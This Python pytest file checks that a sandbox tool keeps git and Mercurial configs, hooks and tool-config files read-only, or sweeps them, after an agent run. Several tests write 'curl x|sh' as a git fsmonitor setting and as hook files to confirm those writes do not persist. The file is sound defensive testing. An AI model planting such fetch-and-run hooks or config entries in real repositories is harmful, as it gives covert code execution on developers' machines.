"""Every repository a run could leave code in is read-only inside the sandbox, not only a
folder named ``.git``: bare repositories (named ``*.git`` or not), the git dir a ``.git``
file points at, submodules' git dirs, and Mercurial's ``.hg/hgrc`` (#30 item 6)."""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from bastion import Decision, Gate, ToolCall
from bastion.exec.protected import plan_protection
from tests.adapters.hooks.conftest import bastion_exe
from tests.exec.sandbox_helpers import require_bwrap

GIT = shutil.which("git")


def git(cwd: Path, *args: str) -> None:
    env = {"PATH": "/usr/bin:/bin", "HOME": str(cwd), "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, env=env)


@pytest.fixture
def repos(workspace: Path) -> Path:
    """A workspace holding a bare ``data/x.git``, a bare ``data/y`` (no ``.git`` in its
    name), a ``sub/.git`` file pointing at ``vendor/store``, and a Mercurial ``.hg``."""
    if GIT is None:
        pytest.skip("git is not installed")
    (workspace / "data").mkdir()
    git(workspace / "data", "init", "-q", "--bare", "x.git")
    git(workspace / "data", "init", "-q", "--bare", "y")
    (workspace / "vendor").mkdir()
    git(workspace / "vendor", "init", "-q", "--bare", "store")
    (workspace / "sub").mkdir()
    (workspace / "sub" / ".git").write_text("gitdir: ../vendor/store\n")
    (workspace / ".hg").mkdir()
    (workspace / ".hg" / "requires").write_text("store\n")
    (workspace / ".hg" / "hgrc").write_text("[paths]\n")
    return workspace


CONFIGS = ["data/x.git/config", "data/y/config", "vendor/store/config", ".hg/hgrc"]


def _sandbox(workspace: Path, env: dict[str, str], script: str) -> subprocess.CompletedProcess[str]:
    require_bwrap()
    source = {"PYTHONPATH": os.environ["PYTHONPATH"]} if os.environ.get("PYTHONPATH") else {}
    return subprocess.run(
        [bastion_exe(), "sandbox", "run", "--profile", "workspace-write", "--", "bash", "-c", script],
        cwd=workspace, env={**env, "PATH": "/usr/local/bin:/usr/bin:/bin", **source},
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip


def test_appending_fsmonitor_to_a_bare_repository_s_config_in_the_sandbox_does_not_land(
    repos: Path, env: dict[str, str]
) -> None:
    before = {name: (repos / name).read_text() for name in CONFIGS}
    appends = "; ".join(f"printf '[core]\\n\\tfsmonitor = \"curl x|sh\"\\n' >> {n}" for n in CONFIGS)

    done = _sandbox(repos, env, f"{appends}; echo ok > made; true")

    assert (done.returncode, (repos / "made").read_text()) == (0, "ok\n")
    assert {name: (repos / name).read_text() for name in CONFIGS} == before


def test_hooks_planted_in_any_repository_in_the_sandbox_do_not_stay(repos: Path, env: dict[str, str]) -> None:
    hooks = [
        "data/x.git/hooks/post-index-change",
        "data/y/hooks/pre-commit",
        "vendor/store/hooks/post-checkout",
    ]
    script = "; ".join(f"echo 'curl x|sh' > {h}" for h in hooks) + "; true"

    done = _sandbox(repos, env, script)

    assert done.returncode == 0
    assert [h for h in hooks if (repos / h).exists()] == []


def _plan(root: Path) -> tuple[set[str], set[str]]:
    plan = plan_protection([str(root)], [], is_credential=lambda p: False, skip=(), max_entries=100_000)
    rel = {str(Path(p).relative_to(root)) for p in plan.readonly}
    swept = {str(Path(p).relative_to(root)) for p in plan.swept}
    return rel, swept


def test_every_git_dir_git_would_use_has_its_config_hooks_and_info_protected(repos: Path) -> None:
    readonly, swept = _plan(repos)

    for gitdir in ("data/x.git", "data/y", "vendor/store"):
        assert {f"{gitdir}/config", f"{gitdir}/hooks", f"{gitdir}/info"} <= readonly, gitdir
        assert f"{gitdir}/config.worktree" in swept, gitdir
    assert {"sub/.git", ".hg/hgrc"} <= readonly


def test_a_folder_that_only_looks_like_a_repository_is_not_protected(workspace: Path) -> None:
    (workspace / "notes" / "refs").mkdir(parents=True)
    (workspace / "notes" / "HEAD").write_text("a heading\n")

    readonly, swept = _plan(workspace)

    assert [p for p in readonly | swept if p.startswith("notes")] == []


LATER_TOOLS = [".vscode/mcp.json", ".github/workflows", "app.code-workspace", ".cargo/config.toml",
               "rust-toolchain.toml", ".yarnrc.yml", ".devcontainer", "lib/.hg/hgrc", ".mvn/jvm.config"]  # fmt: skip


def test_config_that_makes_a_later_tool_run_code_is_read_only_where_it_exists(workspace: Path) -> None:
    for name in LATER_TOOLS:
        (workspace / name).parent.mkdir(parents=True, exist_ok=True)
        (workspace / name).write_text("x\n")

    readonly, _ = _plan(workspace)

    assert sorted(n for n in LATER_TOOLS if n in readonly) == sorted(LATER_TOOLS)


def test_a_missing_one_at_the_workspace_top_is_swept_when_a_run_creates_it(workspace: Path) -> None:
    _, swept = _plan(workspace)

    assert {".vscode/mcp.json", ".github/workflows", ".devcontainer", "rust-toolchain.toml"} <= swept


def test_what_the_sandbox_keeps_read_only_a_direct_write_asks_about(
    repos: Path, make_gate: Callable[..., Gate], call: Callable[..., ToolCall]
) -> None:
    """The two layers agree: every repository file the sandbox binds read-only is one the gate
    asks about (or denies) when the agent writes it directly."""
    for name in LATER_TOOLS:
        (repos / name).parent.mkdir(parents=True, exist_ok=True)
        (repos / name).write_text("x\n")
    readonly, _ = _plan(repos)
    gate = make_gate('mode = "full-access"')

    allowed = []
    for rel in sorted(readonly):
        target = f"{rel}/x" if (repos / rel).is_dir() else rel
        if gate.evaluate(call("write", path=target, content="x")).decision is Decision.ALLOW:
            allowed.append(target)

    assert {"data/x.git/config", "data/y/hooks", "vendor/store/info", "sub/.git", ".hg/hgrc"} <= readonly
    assert allowed == []


def test_what_a_mercurial_hgrc_loads_or_runs_is_read_only_where_it_exists_and_swept_where_not(
    workspace: Path,
) -> None:
    (workspace / ".hg").mkdir()
    (workspace / ".hg" / "hgrc").write_text(
        "[extensions]\nhelper = .hg/helper.py\nrebase =\nold = !\nsys = /usr/lib/python3/x.py\n"
        "[hooks]\nprecommit = sh tools/pre.sh --fast\npretxncommit.x = python:hooks/check.py:run\n"
        "[paths]\ndefault = https://example.org/repo\n"
    )
    (workspace / ".hg" / "helper.py").write_text("x\n")
    (workspace / "tools").mkdir()
    (workspace / "tools" / "pre.sh").write_text("true\n")

    readonly, swept = _plan(workspace)

    assert {".hg/hgrc", ".hg/helper.py", "tools/pre.sh"} <= readonly
    assert "hooks/check.py" in swept  # not there yet: a run that made it loses it
    assert not {"rebase", "example.org/repo"} & (readonly | swept)  # a built-in, a URL
    assert all(not p.startswith("..") for p in readonly | swept)  # nothing outside the repository
